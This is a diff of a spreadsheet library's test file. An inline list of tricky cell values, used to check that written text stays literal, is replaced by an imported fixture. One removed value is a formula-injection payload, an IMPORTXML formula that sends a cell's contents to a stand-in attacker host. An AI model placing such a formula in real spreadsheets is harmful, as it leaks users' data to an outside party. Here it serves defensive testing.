@@ -8,6 +8,7 @@ import { VirtualClock } from "../../workbench/host/virtual-clock";
 import { columnNumber } from "../../workbench/formulas/references";
 import type { Rectangle } from "../../workbench/workbook/rectangle";
 import { Workbook } from "../../workbench/workbook/workbook";
+import { SHAPE_SHIFTING_TEXTS } from "../fakes/shape-shifting-texts";
 import { calls } from "./adapters-script";
 
 const OWNER = "owner@demo.example";
@@ -32,32 +33,7 @@ describe("every adapter", () => {
 });
 
 describe("RangeSheetTable.write", () => {
-  it.each([
-    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
-    "=1+1",
-    "+1",
-    "-1",
-    "@x",
-    "'x",
-    "''x",
-    "'",
-    "00123",
-    "1/2",
-    "11-50",
-    "3-5",
-    "1e5",
-    "12:30",
-    "50%",
-    "TRUE",
-    "Jan 5",
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
-    "2024-03-01",
-    "#N/A",
-    "€5",
-    "line\nbreak",
-  ])("lets %j arrive as that text", async (text) => {
+  it.each(SHAPE_SHIFTING_TEXTS)("lets %j arrive as that text", async (text) => {
     const host = open();
 
     await host.run("write", [SHEET, 2, 3, [[text]]]);
